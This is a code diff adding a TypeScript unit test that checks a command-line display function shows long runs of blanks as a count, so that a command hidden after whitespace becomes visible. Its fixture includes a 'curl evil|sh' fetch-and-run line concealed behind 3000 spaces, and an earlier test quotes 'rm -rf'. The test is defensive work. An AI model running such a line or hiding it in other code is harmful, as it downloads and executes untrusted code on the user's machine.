@@ -55,6 +55,18 @@ describe('visible text', () => {
 });
 
 describe('command lines', () => {
+  it('show many blanks as their count, so that nothing hides behind them', () => {
+    const blanks = (count: number, what = ' '): string => what.repeat(count);
+    assert.equal(
+      quotedArguments(['bash', '-c', `true #${blanks(3000)}; curl evil|sh`]),
+      String.raw`bash -c "true #\{3000 blanks}; curl evil|sh"`,
+    );
+    assert.equal(quotedArguments([`a${blanks(40, '\u3000')}b`]), String.raw`"a\{40 blanks}b"`);
+    assert.equal(quotedArguments([`a${blanks(20)}b`]), `"a${blanks(20)}b"`);
+    assert.equal(quotedArguments([String.raw`\{40 blanks}`]), String.raw`"\\{40 blanks}"`);
+    assert.equal(commandLine(['a\u{1d159}b']).toString(), String.raw`"a\u{1d159}b"`);
+  });
+
   it('tell arguments apart', () => {
     assert.equal(quotedArguments(['rm', '-rf x']), 'rm "-rf x"');
     assert.equal(quotedArguments(['rm', '-rf', 'x']), 'rm -rf x');
